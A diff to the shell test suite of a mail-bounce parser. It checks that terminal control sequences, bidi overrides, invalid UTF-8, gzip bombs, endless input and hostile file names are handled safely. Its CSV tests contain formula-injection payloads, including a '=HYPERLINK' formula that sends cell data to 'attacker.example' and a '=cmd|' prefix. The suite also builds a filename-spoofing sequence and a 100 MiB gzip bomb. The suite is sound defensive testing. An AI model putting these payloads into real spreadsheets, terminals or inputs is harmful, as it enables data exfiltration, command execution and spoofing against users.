@@ -98,5 +98,137 @@ for args in tests/golden/*.args; do
   fi
 done
 
+# Issue 13: nothing from a bounce or a file name reaches a terminal as a
+# control character or a spreadsheet as a formula. tests/hostile/controls.eml
+# holds ESC sequences, BEL, BS, DEL, U+009B, U+202E, U+2066 and invalid
+# UTF-8 in its recipients, subject and diagnostics, and fields that begin
+# with = + - @.
+hostile=tests/hostile/controls.eml
+
+# FILE is valid UTF-8 without C0 controls (but newline), DEL, C1 controls,
+# bidirectional controls or line/paragraph separators.
+shows_safely () {
+  python3 - "$1" <<'EOF'
+import re, sys
+try:
+    text = open(sys.argv[1], 'rb').read().decode('utf-8')
+except UnicodeDecodeError as e:
+    sys.exit('# invalid UTF-8: %s' % e)
+bad = re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]', text)
+if bad:
+    sys.exit('# raw U+%04X at %d' % (ord(bad.group()), bad.start()))
+EOF
+}
+
+# In the CSV FILE, each record is one line, no field begins (after
+# spaces) with = + - @, and fields begin with each of the other arguments.
+csv_fields_safe () {
+  python3 - "$@" <<'EOF'
+import csv, sys
+path, wanted = sys.argv[1], sys.argv[2:]
+# Whether it is valid UTF-8 is shows_safely's question.
+with open(path, newline='', encoding='utf-8', errors='replace') as f:
+    rows = list(csv.reader(f))
+lines = open(path, 'rb').read().count(b'\n')
+fields = [x for row in rows[1:] for x in row]
+risky = [x for x in fields if x.lstrip(' ')[:1] in ('=', '+', '-', '@')]
+missing = [w for w in wanted if not any(x.startswith(w) for x in fields)]
+if risky or missing or lines != len(rows):
+    sys.exit('# risky %r, missing %r, %d lines for %d rows' % (risky, missing, lines, len(rows)))
+EOF
+}
+
+check "hostile: text output exits 0" 0 "$MODORI" --lang=en "$hostile"
+shows_safely "$tmp/out"; ok $? "hostile: text output shows no raw control, bidi control or invalid UTF-8"
+grep -qF 'Recipient: taro\x1b[31m\x07\x08\x7f\u009b2J\u202egpj.exe@example.jp' "$tmp/out"; ok $? "hostile: the recipient's controls are shown escaped"
+grep -qF '\x1b[31mUser unknown\x1b[0m\x07\x08\x7f' "$tmp/out"; ok $? "hostile: the diagnostic's controls are shown escaped"
+check "hostile: Japanese text output exits 0" 0 "$MODORI" --why "$hostile"
+shows_safely "$tmp/out"; ok $? "hostile: Japanese text output shows nothing raw"
+
+check "hostile: csv output exits 0" 0 "$MODORI" --format=csv "$hostile"
+shows_safely "$tmp/out"; ok $? "hostile: csv output shows nothing raw"
+csv_fields_safe "$tmp/out" "'=cmd|" "'+81-3-1234@" "'-hanako@" "'@SUM(" "'=HYPERLINK("; ok $? "hostile: csv fields that start like a formula are prefixed with '"
+grep -qF "\"'=HYPERLINK(\"\"http://attacker.example/\"\"&A1,\"\"User unknown\"\")\"" "$tmp/out"; ok $? "hostile: a prefixed field is still quoted as RFC 4180 says"
+
+for lang in ja en; do
+  check "hostile: summary ($lang) exits 0" 0 "$MODORI" summary --lang=$lang "$hostile"
+  shows_safely "$tmp/out"; ok $? "hostile: summary ($lang) shows nothing raw"
+done
+grep -qF 'taro\x1b[31m' "$tmp/out"; ok $? "hostile: summary shows the recipient escaped"
+
+check "hostile: suppress list exits 0" 0 "$MODORI" suppress "$hostile"
+shows_safely "$tmp/out"; ok $? "hostile: suppress list shows nothing raw"
+[ "$(wc -l <"$tmp/out")" = 4 ]; ok $? "hostile: suppress lists each address on one line"
+check "hostile: suppress csv exits 0" 0 "$MODORI" suppress --format=csv "$hostile"
+shows_safely "$tmp/out"; ok $? "hostile: suppress csv shows nothing raw"
+csv_fields_safe "$tmp/out" "'=cmd|" "'+81-3-1234@" "'-hanako@"; ok $? "hostile: suppress csv prefixes the addresses that start like a formula"
+
+printf '550 5.1.1 <\033[31mtaro@example.jp>: User unknown \302\233 \342\200\256gpj.exe \377\r\n\007next\r line' >"$tmp/reply"
+check "hostile: explain of a reply with controls exits 0" 0 sh -c '"$0" explain --lang=en <"$1"' "$MODORI" "$tmp/reply"
+shows_safely "$tmp/out"; ok $? "hostile: explain shows nothing raw"
+grep -qF 'Address: \x1b[31mtaro@example.jp' "$tmp/out"; ok $? "hostile: explain shows the address's controls escaped"
+
+# File names with ESC, a newline, U+202E and an invalid byte: on stderr
+# (an empty file), in the text output's heading and in an mbox's PATH#N,
+# read by -j 1 and by worker processes.
+weird=$(printf 'bad\033[31m\nname\342\200\256\377')
+: >"$tmp/$weird.eml"
+cp "$hostile" "$tmp/$weird-bounce.eml"
+{ echo "From MAILER-DAEMON Tue Mar  5 10:22:31 2024"; cat "$sample"; echo;
+  echo "From MAILER-DAEMON Tue Mar  5 10:22:32 2024"; cat "$hostile"; } >"$tmp/$weird.mbox"
+for j in 1 2; do
+  check "hostile file names: -j $j exits 2" 2 "$MODORI" -j $j --lang=en "$tmp/$weird.eml" "$tmp/$weird-bounce.eml" "$tmp/$weird.mbox"
+  shows_safely "$tmp/err"; ok $? "hostile file names: -j $j stderr shows nothing raw"
+  [ "$(wc -l <"$tmp/err")" = 1 ] && grep -qF 'bad\x1b[31m\x0aname\u202e' "$tmp/err"; ok $? "hostile file names: -j $j names the file on one line, escaped"
+  shows_safely "$tmp/out"; ok $? "hostile file names: -j $j text output shows nothing raw"
+  grep -qF '.mbox#2: 4 recipient(s)' "$tmp/out" && grep -qF 'bad\x1b[31m\x0aname\u202e' "$tmp/out"; ok $? "hostile file names: -j $j origins are shown escaped"
+done
+check "hostile file names: csv exits 2" 2 "$MODORI" --format=csv "$tmp/$weird.eml" "$tmp/$weird.mbox"
+shows_safely "$tmp/out" && shows_safely "$tmp/err"; ok $? "hostile file names: csv output and stderr show nothing raw"
+csv_fields_safe "$tmp/out"; ok $? "hostile file names: every csv record is on one line"
+check "hostile file names: summary exits 2" 2 "$MODORI" summary "$tmp/$weird.eml" "$tmp/$weird.mbox"
+shows_safely "$tmp/err"; ok $? "hostile file names: summary stderr shows nothing raw"
+check "hostile file names: suppress exits 2" 2 "$MODORI" suppress "$tmp/$weird.eml" "$tmp/$weird.mbox"
+shows_safely "$tmp/err"; ok $? "hostile file names: suppress stderr shows nothing raw"
+check "hostile: a usage error quoting a control exits 2" 2 "$MODORI" --format="$(printf 'x\033[2J')" "$sample"
+shows_safely "$tmp/err" && grep -qF "unknown format 'x\x1b[2J'" "$tmp/err"; ok $? "hostile: the usage error shows the control escaped"
+
+# Issue 13: the source reader's limits and the inputs it cannot read.
+# An mbox with old Macintosh line ends (lone CR) is split like any other.
+{ echo "From x Tue Mar  5 10:22:31 2024"; cat "$sample"; echo
+  echo "From x Tue Mar  5 10:22:32 2024"; cat testdata/dsn/sendmail-userunknown.eml; } | tr '\n' '\r' >"$tmp/cr-only.mbox"
+check "a CR-only mbox exits 0" 0 "$MODORI" --format=jsonl "$tmp/cr-only.mbox"
+[ "$(grep -c '"recipient"' "$tmp/out")" = 2 ] && grep -q "cr-only.mbox#2" "$tmp/out"; ok $? "a CR-only mbox gives the records of both messages"
+# Endless input, as a path and on standard input: an error, not an abort.
+check "/dev/zero as a path exits 2" 2 "$MODORI" --format=jsonl /dev/zero "$sample"
+grep -q "^modori: /dev/zero: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "/dev/zero is named with the limit"
+grep -q '"recipient"' "$tmp/out"; ok $? "the input after /dev/zero is analyzed"
+check "/dev/zero on standard input exits 2" 2 sh -c '"$0" - </dev/zero' "$MODORI"
+grep -q "^modori: -: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "standard input is named with the limit"
+# A gzip bomb: 100 MiB of zeros in 100 KB.
+{ echo "Subject: zeros"; echo; head -c 104857600 /dev/zero; } | gzip -c >"$tmp/bomb.eml.gz"
+check "a gzip bomb exits 2" 2 "$MODORI" "$tmp/bomb.eml.gz"
+grep -q "^modori: $tmp/bomb.eml.gz: larger than 64 MiB, the limit for one message: not read" "$tmp/err"; ok $? "the gzip bomb is named with the limit"
+# A directory entry that cannot be examined is named, not left out.
+mkdir "$tmp/tree"
+cp "$sample" "$tmp/tree/a.eml"
+ln -s no-such-file "$tmp/tree/b.eml"
+check "a dangling link in a directory exits 2" 2 "$MODORI" --format=jsonl "$tmp/tree"
+grep -q "^modori: $tmp/tree/b.eml: No such file or directory" "$tmp/err"; ok $? "the dangling link is named on stderr"
+grep -q '"recipient"' "$tmp/out"; ok $? "the rest of the directory is analyzed"
+
+# Output that cannot be written is an error for every command, the help
+# and the version included (GOption's own help exits 0 regardless).
+if [ -w /dev/full ]; then
+  for args in "--help" "--version" "explain --help" "summary --help" "suppress --help" \
+              "explain 550 5.1.1 user unknown" "--format=jsonl $sample" "summary $sample" "suppress $sample"; do
+    # shellcheck disable=SC2086  # the words of $args are the arguments
+    "$MODORI" $args >/dev/full 2>"$tmp/err"
+    got=$?
+    [ "$got" = 2 ] && grep -q "^modori: cannot write the output" "$tmp/err"
+    ok $? "modori $args with a full disk exits 2 and says so (exit $got)"
+  done
+fi
+
 echo "1..$n"
 [ "$fails" = 0 ]
